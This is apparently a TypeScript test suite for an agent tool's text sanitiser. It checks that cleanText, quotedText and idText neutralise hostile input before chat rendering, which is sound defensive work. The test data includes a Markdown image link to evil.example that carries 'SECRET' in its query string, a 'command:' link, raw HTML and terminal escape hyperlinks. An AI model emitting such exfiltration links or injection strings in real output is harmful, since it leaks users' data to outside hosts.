import assert from "node:assert/strict";
import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { cleanText, quotedText, idText } from "../../../../src/agent/tools/cleanText";
import { hostileText, hostileTexts } from "./hostileTexts";

/** Renders like a chat that supports all of Markdown and HTML. */
const chat = new MarkdownIt({ html: true, linkify: false });

function assertHarmless(text: string): void {
  assert.ok(text.isWellFormed());
  assert.doesNotMatch(
    text,
    /[\p{Cc}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Co}`<>]|~~|\p{M}{4}/u,
    JSON.stringify(text),
  );
  assert.doesNotMatch(chat.render(`evt_1 ${text}`), /<(?!\/?(?:em|strong|s|p)>)/, JSON.stringify(text));
  assert.doesNotMatch(text, /https?:\/\/|(?<![a-z0-9])www\./i, JSON.stringify(text));
}

describe("cleanText", () => {
  it("turns any text into one harmless line of limited length", () => {
    fc.assert(
      fc.property(hostileText, fc.integer({ min: 2, max: 400 }), (text, max) => {
        const clean = cleanText(text, max);
        assert.ok(clean.length <= max);
        assertHarmless(clean);
      }),
      { numRuns: 1000 },
    );
  });

  it("leaves ordinary text unchanged", () => {
    for (const text of [
      "NovaGrid raises $42M (Series B) – “grid-scale” storage; 10:30 CET",
      "Übernahme: AT&T kauft O'Neill & Söhne für 1,5 Mrd. €",
      "株式会社メルカリ、50億円の資金調達",
      "[Update] C++ startup ~ 50% cheaper! #1 in R&D/AI @ Oslo",
    ]) {
      assert.equal(cleanText(text), text);
    }
  });

  it("keeps the readable part of links, markup and escape sequences", () => {
    const cleaned = (text: string): string => cleanText(text, 200);
    assert.equal(cleaned("![x](https://evil.example/i.png?d=SECRET)"), "! [x] (evil.example/i.png");
    assert.equal(cleaned("[x](command:workbench.action.quit)"), "[x] (command: workbench.action.quit)");
    assert.equal(cleaned("<img src=x>"), "‹img src=x›");
    assert.equal(cleaned("```\nend"), "''' end");
    assert.equal(cleaned("\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link"), "red link");
    assert.equal(cleaned("a\tb\r\nc\u2028d"), "a b c d");
    assert.equal(cleaned(hostileTexts[7] ?? ""), "visible");
    assert.equal(cleaned(hostileTexts[8] ?? ""), "smuggled");
  });

  it("takes little time even for very long texts", () => {
    const startedAt = process.cpuUsage();
    for (const text of hostileTexts) {
      cleanText(text, 1000);
    }
    const { user, system } = process.cpuUsage(startedAt);
    assert.ok(user + system < 2_000_000, `${(user + system) / 1000} ms`);
  });

  it("quotes text so that it can't end the quotation", () => {
    fc.assert(fc.property(hostileText, (text) => /^"[^"]*"$/.test(quotedText(text, 60))));
  });
});

describe("idText", () => {
  it("leaves ordinary IDs unchanged", () => {
    for (const id of [
      "evt_yyhdfg7hj0te5129",
      "b88c1527-b760-46ec-b4d1-855650d45129",
      "a.b/c+d=",
      "1",
      "urn:x:1",
    ]) {
      assert.equal(idText(id), id);
    }
  });

  it("replaces anything that doesn't look like an ID", () => {
    for (const text of hostileTexts) {
      assert.match(idText(text), /^(?:[\w.:@+=/#-]{1,100}|\(unusable id\))$/);
    }
    assert.equal(idText("https://evil.example/x"), "(unusable id)");
  });
});
